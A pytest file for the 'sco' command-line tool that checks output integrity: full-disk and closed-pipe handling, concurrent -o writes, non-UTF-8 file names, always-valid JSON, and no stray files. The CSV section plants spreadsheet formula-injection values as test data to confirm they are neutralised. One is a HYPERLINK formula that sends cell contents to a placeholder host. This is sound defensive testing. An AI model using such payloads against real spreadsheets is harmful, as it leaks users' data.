"""Output integrity (issue 20 point 6): what sco writes is whole or refused in one line. Standard output on
a full disk or a closed pipe, `-o` under concurrent runs, CSV cells a spreadsheet would run as formulas,
file names that are not UTF-8, files written outside `-o`, and JSON that is always JSON.

Each test runs the real CLI; the docstrings say what each showed before."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from tests.helpers import AS_OF, EXAMPLES, written_under

HAS_DEV_FULL = Path("/dev/full").exists()


def _run(args: list[str], *, buffered: bool = True, **kwargs: Any) -> subprocess.CompletedProcess[bytes]:
    env = dict(os.environ)
    if buffered:
        env.pop("PYTHONUNBUFFERED", None)
    else:
        env["PYTHONUNBUFFERED"] = "1"
    env.update(kwargs.pop("env", {}))
    return subprocess.run(
        [sys.executable, "-P", "-m", "sco_cli.main", *args], env=env, capture_output="stdout" not in kwargs, **kwargs
    )


# (a) standard output that cannot be written


@pytest.mark.skipif(not HAS_DEV_FULL, reason="needs /dev/full")
@pytest.mark.parametrize("buffered", [True, False], ids=["buffered", "unbuffered"])
@pytest.mark.parametrize(
    "args",
    [
        ["--version"],  # the fast paths: Python's 'Exception ignored ... OSError' and exit 120
        ["--help"],
        ["lor", "--help"],  # Click's help: 'sco: internal error: OSError: [Errno 28] ...' (exit 3)
        ["translation", "letter", "--help"],
        ["rules", "list"],
        ["check", str(EXAMPLES), "--as-of", AS_OF, "--format", "csv"],
        ["calendar", str(EXAMPLES), "--as-of", AS_OF],
    ],
    ids=" ".join,
)
def test_a_full_disk_on_standard_output_is_one_line_and_exit_2(args, buffered):
    """Every way sco writes to standard output (its own emit, print, Click's help) meets the full disk
    the same way: one line naming it, exit 2; not a bug in sco (exit 3), not a silent exit 0."""
    with open("/dev/full", "wb") as full:
        done = _run(args, buffered=buffered, stdout=full, stderr=subprocess.PIPE)
    lines = done.stderr.decode().splitlines()
    assert done.returncode == 2, done.stderr
    assert lines == ["sco: error: cannot write to standard output: No space left on device"]


def test_a_reader_that_leaves_after_ten_bytes_is_not_a_traceback(tmp_path):
    """`sco rules explain ... | head -c 10` on every path: exit 0 (the reader left: as `head` expects,
    docs/commands.md), nothing on stderr."""
    for args in (["rules", "list"], ["lor", "--help"], ["rules", "list", "--format", "json"]):
        process = subprocess.Popen(
            [sys.executable, "-P", "-m", "sco_cli.main", *args], stdout=subprocess.PIPE, stderr=subprocess.PIPE
        )
        assert process.stdout is not None and process.stderr is not None
        process.stdout.read(10)
        process.stdout.close()
        err = process.stderr.read()
        assert (process.wait(timeout=120), err) == (0, b""), args


# (b) -o without --force, under concurrent runs


def test_a_file_created_while_sco_writes_is_refused_not_overwritten(sco, tmp_path, monkeypatch):
    """Another run creates the same -o between sco's existence check and its rename (simulated at the
    fsync, the slowest step of the window): sco renamed over it (the other run's file lost, exit 0); now it
    refuses in one line, leaves the other's file whole and no temporary file behind."""
    target = tmp_path / "javits.csv"
    real_fsync = os.fsync

    def another_run_finishes_first(fd: int) -> None:
        real_fsync(fd)
        if not target.exists():
            target.write_text("the other run's report\n")

    monkeypatch.setattr(os, "fsync", another_run_finishes_first)
    result = sco("javits", "report", EXAMPLES, "--as-of", AS_OF, "-o", target)
    assert result.exit_code == 2, result.stdout
    assert result.stderr.splitlines() == [f"sco: error: {target}: already exists; use --force to replace it"]
    assert target.read_text() == "the other run's report\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["javits.csv"]


def test_with_force_the_file_created_meanwhile_is_replaced(sco, tmp_path, monkeypatch):
    target = tmp_path / "javits.csv"
    real_fsync = os.fsync

    def another_run_finishes_first(fd: int) -> None:
        real_fsync(fd)
        target.write_text("the other run's report\n")

    monkeypatch.setattr(os, "fsync", another_run_finishes_first)
    result = sco("javits", "report", EXAMPLES, "--as-of", AS_OF, "-o", target, "--force")
    assert result.exit_code == 0, result.stderr
    assert target.read_text().startswith("id,description,")


def test_on_a_file_system_without_hard_links_the_name_is_claimed_exclusively(sco, tmp_path, monkeypatch):
    """FAT or a network share: link(2) says EPERM; sco claims the name with O_EXCL and renames over it."""
    import errno

    def no_links(*args: object, **kwargs: object) -> None:
        raise OSError(errno.EPERM, "Operation not permitted")

    monkeypatch.setattr(os, "link", no_links)
    target = tmp_path / "javits.csv"
    assert sco("javits", "report", EXAMPLES, "--as-of", AS_OF, "-o", target).exit_code == 0
    assert target.read_text().startswith("id,description,")
    again = sco("javits", "report", EXAMPLES, "--as-of", AS_OF, "-o", target)
    assert again.exit_code == 2 and "already exists" in again.stderr
    assert sorted(p.name for p in tmp_path.iterdir()) == ["javits.csv"]


def test_six_runs_writing_the_same_output_at_once_one_wins_the_others_refuse(tmp_path):
    """Six concurrent `sco cta generate ... -o cta.docx` without --force overwrote each other (each exit 0,
    each saying 'wrote'); now exactly one writes, five refuse (exit 2, one line), and the file is whole."""
    target = tmp_path / "cta.docx"
    args = ["cta", "generate", str(EXAMPLES / "lor-cta.yaml"), "-o", str(target), "--as-of", AS_OF]
    env = {k: v for k, v in os.environ.items() if k != "PYTHONUNBUFFERED"}
    runs = [
        subprocess.Popen(
            [sys.executable, "-P", "-m", "sco_cli.main", *args],
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            env=env,
        )
        for _ in range(6)
    ]
    outcomes = [(run.wait(timeout=300), run.stdout.read(), run.stderr.read()) for run in runs]  # type: ignore[union-attr]
    codes = sorted(code for code, _, _ in outcomes)
    assert codes == [0, 2, 2, 2, 2, 2], outcomes
    for code, _, err in outcomes:
        if code == 2:
            assert err.decode().splitlines() == [f"sco: error: {target}: already exists; use --force to replace it"]
    import zipfile

    assert zipfile.ZipFile(target).testzip() is None
    assert sorted(p.name for p in tmp_path.iterdir()) == ["cta.docx"]


# (c) CSV cells a spreadsheet would run

FORMULA = '=HYPERLINK("http://example.invalid/?x="&A1,"click")'


def _office_with_formulas(tmp_path: Path) -> Path:
    """The examples, with text a spreadsheet would run in a field each CSV report shows."""
    office = tmp_path / "office"
    shutil.copytree(EXAMPLES, office)

    def swap(name: str, old: str, new: str) -> None:
        path = office / name
        text = path.read_text(encoding="utf-8")
        assert old in text, (name, old)
        path.write_text(text.replace(old, new, 1), encoding="utf-8")

    swap("forecast.yaml", "Two 45 m coastal patrol boats with training and support", f"'{FORMULA}'")
    swap("eum.yaml", "description: Javelin command launch unit", "description: -2+3")
    swap("eum.yaml", "serials: [CLU-10231,", 'serials: ["@SUM(1)",')
    swap("cases/XS-B-ZAD.yaml", "id: XS-B-ZAD", 'id: "+1+2"')
    swap("graduates/prominent.yaml", "surname: Vaher", 'surname: "\\t=1+2"')
    swap("lor-complete.yaml", "id: XS-LOR-2026-014", 'id: "\\r=0+XS-LOR-2026-014"')
    (office / "=1+2.yaml").write_text("kind: nothing\n", encoding="utf-8")
    return office


def _cells(text: str) -> list[str]:
    import csv
    import io

    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_every_csv_neutralises_cells_a_spreadsheet_would_run_and_json_keeps_them(sco, tmp_path, monkeypatch):
    """`=HYPERLINK(...)` as a forecast description, `-2+3` as an EUM item, `@SUM(1)` as a serial, `+1+2` as
    a case, `=1+2` as a surname, `=0+...` as an LOR (the tab and CR before them are trimmed as every text
    is; `test_the_one_csv_writer` covers them): each CSV wrote them as they were, so a spreadsheet opening
    the report ran them. Now every such cell starts with a single quote; JSON has the exact text."""
    office = _office_with_formulas(tmp_path)
    monkeypatch.chdir(office)
    runs = {
        "check": (["check", "=1+2.yaml", "lor-complete.yaml", "--as-of", AS_OF], ["=1+2.yaml"]),
        "javits": (["javits", "report", ".", "--as-of", AS_OF, "--year", "2027"], [FORMULA]),
        "forecast": (["forecast", "report", ".", "--as-of", AS_OF, "--fy", "2028"], [FORMULA]),
        "case": (["case", "status", ".", "--as-of", AS_OF], ["+1+2"]),
        "prominence": (["training", "prominence", "graduates"], ["=1+2, Kristjan"]),
        "route": (["lor", "route", "lor-complete.yaml", "--as-of", AS_OF], ["=0+XS-LOR-2026-014"]),
    }
    for name, (args, raw_values) in runs.items():
        csv_out = sco(*args, "--format", "csv")
        assert csv_out.exit_code in (0, 1), (name, csv_out.stderr)
        cells = _cells(csv_out.stdout)
        dangerous = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
        assert dangerous == [], name
        for raw in raw_values:
            assert "'" + raw in cells, (name, raw)
        json_out = sco(*args, "--format", "json")
        for raw in raw_values:
            assert json.dumps(raw)[1:-1] in json_out.stdout, (name, raw)
    sheet = office / "sheet.csv"
    assert sco("eum", "inventory", "eum.yaml", "-o", sheet, "--as-of", AS_OF).exit_code == 0
    cells = _cells(sheet.read_text(encoding="utf-8"))
    assert "'-2+3" in cells and "'@SUM(1)" in cells
    assert [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")] == []


def test_the_one_csv_writer_quotes_text_only_and_the_rule_is_the_documented_one():
    """A negative amount is a number, not text a spreadsheet runs; only text cells get the quote."""
    from sco_cli.core.csv_table import csv_text

    row = [-5, "-5", "a=b", False, "\t=1", "@x", "+1", None]
    assert csv_text("abcdefgh", [row]) == "a,b,c,d,e,f,g,h\n-5,'-5,a=b,false,'\t=1,'@x,'+1,\n"
    # a carriage return anywhere in a row: the row is quoted whole, so no reader ends the row there
    assert csv_text("ab", [["\r=1", "x\ry"], ["c", 1]]) == 'a,b\n"\'\r=1","x\ry"\nc,1\n'
    documents = (Path(__file__).resolve().parents[2] / "docs" / "commands.md").read_text(encoding="utf-8")
    assert "single quote" in documents and "`=`, `+`, `-`, `@`" in documents


# (d) file names that are not UTF-8


@pytest.fixture
def office_with_a_name_not_utf8(tmp_path: Path) -> Path:
    office = tmp_path / "office"
    office.mkdir()
    for name in ("sco.yaml", "forecast.yaml", "lor-flawed.yaml", "eum.yaml"):
        stem, _, suffix = name.rpartition(".")
        target = os.path.join(os.fsencode(office), stem.encode() + b"\xff." + suffix.encode())
        shutil.copy(EXAMPLES / name, target if name != "sco.yaml" else office / name)
    return office


@pytest.mark.parametrize(
    "args",
    [
        ["check", ".", "--format", "json"],
        ["check", ".", "--format", "sarif"],
        ["check", ".", "--format", "csv"],
        ["check", ".", "--format", "github"],
        ["calendar", ".", "--format", "json"],
        ["calendar", ".", "--format", "ics"],
        ["brief", ".", "--format", "json"],
        ["brief", "."],
    ],
    ids=" ".join,
)
def test_a_file_name_that_is_not_utf8_never_crashes_and_json_gets_the_replacement(args, office_with_a_name_not_utf8):
    """`forecast\\xff.yaml` in a UTF-8 locale (standard output strict): the CSV and GitHub reports exit 3
    (UnicodeEncodeError), SARIF, the calendar and the brief too (a UID or URI made of the name), and JSON
    carried a lone surrogate escape (`\\udcff`) that strict readers refuse. Now every format runs; JSON and
    the calendar say U+FFFD, SARIF's URI has the name's own byte (%FF), text and CSV the name's own bytes."""
    done = _run(
        [*args, "--as-of", AS_OF],
        cwd=office_with_a_name_not_utf8,
        env={"PYTHONIOENCODING": "utf-8:strict", "LC_ALL": "C.UTF-8"},
    )
    assert done.returncode in (0, 1), done.stderr
    assert b"internal error" not in done.stderr
    if "json" in args or "sarif" in args:
        assert b"\\udc" not in done.stdout
        payload = json.loads(done.stdout.decode("utf-8"))
        text = json.dumps(payload, ensure_ascii=False)
        assert ("lor-flawed%FF.yaml" if "sarif" in args else "eum\ufffd.yaml") in text
    elif "ics" in args:
        assert "eum\ufffd.yaml" in done.stdout.decode("utf-8").replace("\r\n ", "")
    elif "csv" in args or "github" in args:
        assert b"lor-flawed\xff.yaml" in done.stdout


# (f) --format json is always JSON

JSON_COMMANDS = [
    ["check"],
    ["lor", "check"],
    ["student", "check"],
    ["eum", "check"],
    ["case", "status"],
    ["calendar"],
    ["brief"],
    ["waivers", "list"],
    ["javits", "report"],
    ["forecast", "report"],
    ["training", "prominence"],
]


@pytest.fixture(scope="module")
def folders_with_nothing_to_report(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    root = tmp_path_factory.mktemp("nothing")
    folders = {name: root / name for name in ("empty", "empty-file", "binary", "other-kind", "no-prominence")}
    for folder in folders.values():
        folder.mkdir()
    (folders["empty-file"] / "e.yaml").write_bytes(b"")
    (folders["binary"] / "b.yaml").write_bytes(bytes(range(256)) * 3)
    shutil.copy(EXAMPLES / "visits" / "useucom-j5.yaml", folders["other-kind"])
    shutil.copy(EXAMPLES / "students" / "ready.yaml", folders["no-prominence"])
    return folders


@pytest.mark.parametrize("args", JSON_COMMANDS, ids=" ".join)
def test_format_json_prints_one_json_object_whatever_the_files(sco, args, folders_with_nothing_to_report):
    """`sco training prominence --format json` printed nothing (exit 1) with no student file, `sco javits
    report` and `sco forecast report` nothing (exit 2, a usage error) with no register: a script asking for
    JSON got none. Now every command that reads files prints its one JSON object (empty lists) whether the
    folder is empty, holds an empty or a binary file, or only files of another kind; the stderr line and
    exit 1 still say that nothing of the kind was found."""
    for name, folder in folders_with_nothing_to_report.items():
        result = sco(*args, folder, "--format", "json", "--as-of", AS_OF)
        assert result.exit_code in (0, 1), (name, result.stderr)
        payload = json.loads(result.stdout)
        assert payload["sco_version"], name
        assert len(result.stderr.splitlines()) <= 3, (name, result.stderr)


def test_other_formats_write_no_empty_report_and_the_line_says_what_is_missing(sco, folders_with_nothing_to_report):
    folder = folders_with_nothing_to_report["other-kind"]
    for args, kind in ((["javits", "report"], "forecast"), (["training", "prominence"], "student")):
        result = sco(*args, folder, "--as-of", AS_OF)
        assert (result.exit_code, result.stdout) == (1, "")
        assert result.stderr.splitlines() == [f"sco: no {kind} file (kind: {kind}) found in {folder}"]


# (e) nothing written outside -o and the output folder


def _tree(folder: Path) -> dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes() if p.is_file() else b"/" for p in sorted(folder.rglob("*"))}


AUDITED = [
    (["check", "."], []),
    (["check", ".", "--format", "sarif"], []),
    (["budget", "justify", "budget-fmf.yaml", "-o", "out/justification.docx"], ["out/justification.docx"]),
    (["ito", "generate", "students/ready.yaml", "-o", "out/itos"], ["out/itos/ITO-XS-P-IMT-2027-0101.docx"]),
    (["cta", "generate", "lor-cta.yaml", "-o", "out/cta.md"], ["out/cta.md"]),
    pytest.param(
        ["ito", "generate", "students/ready.yaml", "-o", "out/pdf", "--format", "pdf"],
        ["out/pdf/ITO-XS-P-IMT-2027-0101.pdf"],
        marks=pytest.mark.skipif(not (shutil.which("soffice") or shutil.which("libreoffice")), reason="no LibreOffice"),
    ),
    (["eum", "inventory", "eum.yaml", "-o", "out/sheet.csv"], ["out/sheet.csv"]),
    (["javits", "report", ".", "-o", "out/javits.docx", "--year", "2027"], ["out/javits.docx"]),
    (["forecast", "report", ".", "--format", "md"], []),
    (["training", "prominence", "graduates", "-o", "out/ppr.docx"], ["out/ppr.docx"]),
    (["calendar", ".", "--format", "ics", "-o", "out/fy.ics", "--draft"], ["out/fy.ics"]),
    (["brief", "."], []),
    (["translation", "letter", "--help"], []),
    (["templates", "export", "-o", "out/templates"], ["out/templates"]),
    (["schema", "export", "-o", "out/schemas"], ["out/schemas"]),
    (["init", "out/new-office"], ["out/new-office"]),
    (["rules", "coverage"], []),
]


@pytest.mark.parametrize(("args", "written"), AUDITED, ids=lambda value: " ".join(value[:6]) or "-")
def test_a_run_writes_only_its_output(args, written, tmp_path):
    """Each command run with HOME, TMPDIR and the XDG folders pointed at empty watched folders, in a copy of
    the example office: after the run the watched folders are empty again (matplotlib's cache, LibreOffice's
    profile, temporary files all removed) and the office holds exactly what it held plus the named output.
    `sco budget justify` wrote matplotlib's cache under $HOME (issue 20) before it got a private folder."""
    office = tmp_path / "office"
    shutil.copytree(EXAMPLES, office)
    home, temporary = tmp_path / "home", tmp_path / "tmp"
    home.mkdir()
    temporary.mkdir()
    before = _tree(office)
    unset = ("XDG_CACHE_HOME", "XDG_CONFIG_HOME", "XDG_DATA_HOME", "MPLCONFIGDIR")  # so HOME is where they go
    env = {k: v for k, v in os.environ.items() if k not in unset} | {"HOME": str(home), "TMPDIR": str(temporary)}
    dated = [] if args[0] in NO_AS_OF else ["--as-of", AS_OF]
    done = subprocess.run(
        [sys.executable, "-P", "-m", "sco_cli.main", *args, *dated],
        cwd=office,
        env=env,
        capture_output=True,
        timeout=600,
    )
    assert done.returncode in (0, 1), done.stderr
    assert b"internal error" not in done.stderr
    assert written_under(home) == set(), "written under HOME"
    assert list(temporary.rglob("*")) == [], "left in TMPDIR"
    after = _tree(office)
    new = {name for name in after if name not in before}
    assert {name for name in new if not any(name == w or name.startswith(w + "/") for w in (*written, "out"))} == set()
    assert all(name in after for name in written)
    assert {name for name in before if before[name] != after.get(name)} == set(), "an office file changed"


NO_AS_OF = {"templates", "schema", "init", "rules", "translation"}


def test_a_table_sco_exported_reads_back_without_the_quotes(tmp_path):
    """The importers (core/tables.py) read a cell as a spreadsheet shows it: the quote `csv_text` puts
    before `=`, `+`, `-`, `@` is not part of the value, so `case status --format csv` imports back as it was."""
    from sco_cli.core.csv_table import csv_text
    from sco_cli.core.tables import read_table

    values = ["=1+2", "-S-1", "@home", "+44 20", "'quoted'", "plain"]
    path = tmp_path / "export.csv"
    path.write_text(csv_text(["value"], [[value] for value in values]), encoding="utf-8")
    assert [row.cells[0] for row in read_table(path).rows] == values
